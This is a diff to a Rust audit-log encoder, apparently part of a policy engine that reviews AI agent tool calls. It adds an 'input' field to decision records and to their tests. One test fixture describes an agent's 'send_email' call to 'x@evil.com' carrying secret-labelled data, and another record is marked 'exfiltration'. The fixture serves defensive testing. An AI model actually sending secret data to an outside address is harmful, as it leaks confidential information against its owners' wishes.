@@ -102,6 +102,11 @@ impl Encoded {
                 key(&mut out, "eval_us");
                 number(&mut out, decision.eval_us);
                 out.push(b',');
+                if let Some(input) = &decision.input {
+                    key(&mut out, "input");
+                    write_canonical(input, &mut out);
+                    out.push(b',');
+                }
                 key(&mut out, "policy_digest");
                 opt_string(&mut out, decision.policy_digest.as_deref());
                 out.push(b',');
@@ -354,6 +359,7 @@ mod tests {
                 reasons: vec!["exfiltration".into(), "policy_error: boom \"x\"".into()],
                 policy_digest: Some("abc123".into()),
                 eval_us: 7,
+                input: None,
             }),
             approver: Some(vec!["bob@acme.com".into()]),
             outcome: Some(OutcomeRecord {
@@ -376,6 +382,7 @@ mod tests {
                 reasons: Vec::new(),
                 policy_digest: None,
                 eval_us: 0,
+                input: None,
             }),
             approver: None,
             outcome: Some(OutcomeRecord {
@@ -393,7 +400,16 @@ mod tests {
     /// The direct encoder and the generic one (serde form, then canonical JSON) agree.
     #[test]
     fn the_direct_encoding_is_the_canonical_json_of_the_record() {
-        for mut record in samples() {
+        let [decided, completed] = samples();
+        let mut with_input = decided.clone();
+        if let Some(decision) = &mut with_input.decision {
+            decision.input = Some(serde_json::json!({
+                "version": "agentwarrant/v1",
+                "call": {"tool": "send_email", "args": {"to": "x@evil.com", "n": 1.5}},
+                "chain": {"labels": ["secret"], "depth": 0},
+            }));
+        }
+        for mut record in [decided, completed, with_input] {
             let line = Sealer::resume(6, "cd".repeat(32))
                 .seal(&mut record)
                 .unwrap();
